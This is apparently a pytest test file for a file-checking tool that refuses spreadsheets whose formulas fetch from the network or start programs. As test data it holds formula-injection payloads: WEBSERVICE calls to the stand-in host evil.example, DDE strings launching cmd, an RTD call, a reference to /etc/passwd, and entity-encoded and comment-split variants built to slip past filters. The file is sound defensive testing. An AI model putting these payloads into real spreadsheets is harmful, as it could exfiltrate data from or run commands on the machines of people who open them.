"""Tables whose formulas fetch or start something; and those that only count."""

import io

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName

from meeting.files import formulas
from meeting.files.packed import CHUNK
from tests.meeting.files.making import make_office
from tests.meeting.files.test_outside import code_of

FETCHING = 'WEBSERVICE("https://evil.example/"&A1)'
STARTING = "cmd|'/c calc'!A0"
SHEET = "xl/worksheets/sheet1.xml"


def code_of_sheet(inside, encoding="utf-8"):
    sheet = f'<?xml version="1.0" encoding="{encoding}"?><sheet>{inside}</sheet>'
    content = make_office(".xlsx", **{SHEET: sheet.encode(encoding)})
    return code_of(content, "table.xlsx")


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        (FETCHING, "outside"),
        ('_xlfn.WEBSERVICE("https://evil.example/")', "outside"),
        ('1+webService ("https://evil.example/")', "outside"),
        ("&#87;EBSERVICE(A1)", "outside"),
        ("&#x57;&#69;BSERVICE(A1)", "outside"),
        (STARTING, "dde"),
        ("'cmd'|'/c calc'!A0", "dde"),
        ("cmd&#124;'/c calc'!A0", "dde"),
        ('RTD("evil.server",,"x")', "dde"),
        ('IF(A1,DDE("soffice","/etc/passwd","A1"))', "dde"),
    ],
)
@pytest.mark.parametrize(
    "element",
    [
        "<f>{}</f>",
        "<x:f>{}</x:f>",
        '<f t="array" ref="A1:A2" said="&quot;>">{}</f>',
        "<f\n t = 'array'\t>{}</f>",
        "<xm:f>{}</xm:f>",
        "<formula>{}</formula>",
        "<formula1>{}</formula1>",
        '<definedName name="x">{}</definedName>',
    ],
)
def test_formulas_that_fetch_or_start_are_refused(element, formula, code):
    assert code_of_sheet(element.format(formula)) == code


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    ("formula", "code"), [(FETCHING, "outside"), (STARTING, "dde")]
)
def test_in_whatever_encoding(formula, code, encoding):
    assert code_of_sheet(f"<f>{formula}</f>", encoding) == code


@pytest.mark.parametrize(
    "element",
    [
        f"<f>A1</f><v>{FETCHING}</v>",
        f"<t>{STARTING}</t>",
        "<f>IF(A1=&quot;|&quot;,1,2)</f>",
        "<f>\"WEBSERVICE(\"&amp;'A|B'!A1</f>",
        "<f>MYRTD(A1)+ADDED(1)</f>",
        '<f t="shared" si="0"/><v>a|b</v>',
        '<definedName name="x" comment="one&#10;two">A1</definedName>',
        "<!-- WEBSERVICE(1) | --><f>A1</f>",
        "<m:f><m:num>a|b</m:num></m:f>",
    ],
)
def test_others_are_taken(element):
    assert code_of_sheet(element) == ""


@pytest.mark.parametrize(
    "formula",
    [
        "<![CDATA[WEBSERVICE(A1)]]>",
        "WEBSER<!-- -->VICE(A1)",
        "cmd<?x?>|'/c calc'!A0",
    ],
)
def test_a_formula_that_no_program_writes_is_refused(formula):
    assert code_of_sheet(f"<f>{formula}</f>") == "broken"


@pytest.mark.parametrize("after", range(-3, len(FETCHING) + 6))
def test_wherever_what_is_unpacked_at_once_ends(after):
    before = (
        f'<?xml version="1.0" encoding="utf-8"?><sheet><t>{"x" * (CHUNK - 100)}</t>'
    )
    filling = f"<t>{'x' * (CHUNK - len(before) - after - 7)}</t>"

    assert code_of_sheet(before[45:] + filling + f"<f>{FETCHING}</f>") == "outside"
    assert code_of_sheet(before[45:] + filling + "<f><![CDATA[|]]></f>") == "broken"


def test_a_formula_longer_than_any_is_refused():
    assert code_of_sheet(f"<f>{' ' * 2 * CHUNK}{FETCHING}</f>") == "bomb"


def test_too_many_signs_are_refused(monkeypatch):
    monkeypatch.setattr(formulas, "MOST_PLACES", 10)

    assert code_of_sheet("<t>a|b</t>" * 9) == ""
    assert code_of_sheet("<t>a|b</t>" * 10) == "bomb"


def test_a_table_as_a_program_writes_it_is_taken():
    book, output = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    sheet.title = "A|B"
    for row in range(1, 200):
        sheet.append([row, "one | two", f'=IF(B{row}="|","a",SUM(A1:A{row}))'])
    rule = FormulaRule(formula=['ISNUMBER(SEARCH("|",B1))'])
    sheet.conditional_formatting.add("B1:B9", rule)
    book.defined_names["numbers"] = DefinedName("numbers", attr_text="'A|B'!$A$1:$A$9")
    book.save(output)

    assert code_of(output.getvalue(), "table.xlsx") == ""
